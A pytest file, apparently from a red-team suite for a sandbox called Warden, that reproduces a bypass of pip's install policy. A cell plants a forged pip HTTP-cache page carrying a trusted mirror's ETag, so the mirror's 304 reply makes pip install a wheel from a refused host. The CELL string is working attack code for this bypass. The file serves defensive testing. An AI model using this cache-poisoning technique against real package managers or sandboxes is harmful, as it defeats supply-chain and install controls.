"""Red team 42a R42a-2: pip's HTTP cache is an input nothing reads; "revalidated" pages are
the cell's bytes.

The threat model leaves pip's HTTP cache open because "it revalidates index pages with
max-age=0". It does, with a conditional request: cachecontrol (pip 23.2's vendored 0.12.11)
sends the CACHED entry's validator (``If-None-Match: <its ETag>``) and, when the index answers
``304 Not Modified``, hands pip the CACHED body (``CacheControlAdapter.build_response`` ->
``update_cached_response``). The validator is public (any GET of the page shows it), so a cell
writes an entry under ``<cache>/http/<sha224 of the page URL>`` whose headers carry the
index's current ETag and whose body is a page of its own: the trusted index answers 304 and
pip reads links the cell chose, here a wheel on a host the policy refuses.

pip caches only for HTTPS origins and for hosts given as ``--trusted-host``; the admin's
policy here trusts a plain-HTTP mirror and lists it in ``dependencies.tls_unverified_hosts``
(what every plain-HTTP devpi/Nexus mirror needs: pip refuses such an index without
``--trusted-host``). The cache folder is one the cell names (``--cache-dir ./pipcache``: an
inert option to Warden). FAILS today (pip downloads from the refused host under Warden).
"""

import hashlib

import pytest
from listed_release import trust_mirror
from local_index import link_page, page_host

ETAG = '"mirror-v1"'
PROJECT = "warden-demo-pkg"


@pytest.fixture()
def mirror(index):
    """The admin's plain-HTTP mirror (trusted): /simple/warden-demo-pkg/ links its own copy of
    the wheel; it answers a matching If-None-Match with 304, as PyPI, devpi and Nexus do."""
    wheel = index.files["warden_demo_pkg-1.0-py3-none-any.whl"]
    data = wheel.read_bytes()
    digest = hashlib.sha256(data).hexdigest()

    def answer(path, headers):
        if path.rstrip("/") == f"/simple/{PROJECT}":
            if headers.get("If-None-Match") == ETAG:
                return 304, {"ETag": ETAG}, None
            return 200, {"Content-Type": "text/html", "ETag": ETAG}, link_page(wheel.name, digest)
        if path == f"/files/{wheel.name}":
            return 200, {"Content-Type": "application/octet-stream", "ETag": ETAG}, data
        return None

    with page_host(answer) as (host, requests):
        yield host, requests


def _entry(refused_wheel_url: str) -> bytes:
    """A cachecontrol v4 entry: a 200 text/html page with the mirror's ETag, linking to
    ``refused_wheel_url`` (the body the cell chose)."""
    from pip._vendor import msgpack

    body = f'<a href="{refused_wheel_url}">warden_demo_pkg-1.0-py3-none-any.whl</a>'.encode()
    data = {
        "response": {
            "body": body,
            "headers": {"Content-Type": "text/html", "ETag": ETAG,
                        "Content-Length": str(len(body))},
            "status": 200, "version": 11, "reason": "OK", "strict": True,
            "decode_content": True,
        },
        "vary": {},
    }  # fmt: skip
    return b"cc=4," + msgpack.dumps(data, use_bin_type=True)


def _cache_path(work, url: str) -> str:
    """Where pip 23.2 keeps ``url``'s response under ``--cache-dir ./pipcache`` (pip's own
    function: the key is the URL)."""
    from pip._internal.network.cache import SafeFileCache

    return SafeFileCache(str(work / "pipcache" / "http"))._get_cache_path(url)


CELL = (
    "import os, sys\n"
    "os.environ.pop('PIP_NO_CACHE_DIR', None)\n"
    "os.makedirs(os.path.dirname(ENTRY), exist_ok=True)\n"
    "open(ENTRY, 'wb').write(open('kit/page.cc', 'rb').read())\n"
    "os.system(sys.executable + ' -m pip install -q --cache-dir ./pipcache --target {target} '"
    " + '--trusted-host ' + HOST + ' --index-url http://' + HOST + '/simple warden-demo-pkg')\n"
)


def test_a_planted_http_cache_page_of_a_trusted_mirror_installs_from_a_refused_host(kernel, mirror):
    host, served = mirror
    refused = f"{kernel.index.base}/files/warden_demo_pkg-1.0-py3-none-any.whl"
    (kernel.work / "kit").mkdir()
    (kernel.work / "kit" / "page.cc").write_bytes(_entry(refused))
    page = f"http://{host}/simple/{PROJECT}/"
    entry = _cache_path(kernel.work, page)
    code = f"ENTRY = {entry!r}\nHOST = {host!r}\n" + CELL
    trust_mirror(kernel, host)
    kernel.reset()
    plain = kernel.cell(code, launched=False)
    assert kernel.installed() and kernel.index.requests, plain  # from the refused host
    assert f"/simple/{PROJECT}/" in served  # the mirror was asked, and answered 304
    kernel.reset()
    guarded = kernel.cell(code, launched=True)
    fetched = list(kernel.index.requests)
    assert not fetched and not kernel.installed(), ("installed under Warden", fetched, guarded)


def test_the_mirror_install_without_a_planted_page_runs(kernel, mirror):
    """No false refusal: the same install with an empty cache takes the mirror's own wheel."""
    host, served = mirror
    trust_mirror(kernel, host)
    line = (
        f" -m pip install -q --cache-dir ./pipcache --target {{target}} --trusted-host {host} "
        f"--index-url http://{host}/simple {PROJECT}"
    )
    code = "import os, sys\nos.environ.pop('PIP_NO_CACHE_DIR', None)\n"
    code += f"os.system(sys.executable + {line!r})\n"
    kernel.reset()
    guarded = kernel.cell(code, launched=True)
    assert guarded["refused"] is None and kernel.installed(), guarded
    assert not kernel.index.requests and any(p.startswith("/files/") for p in served)
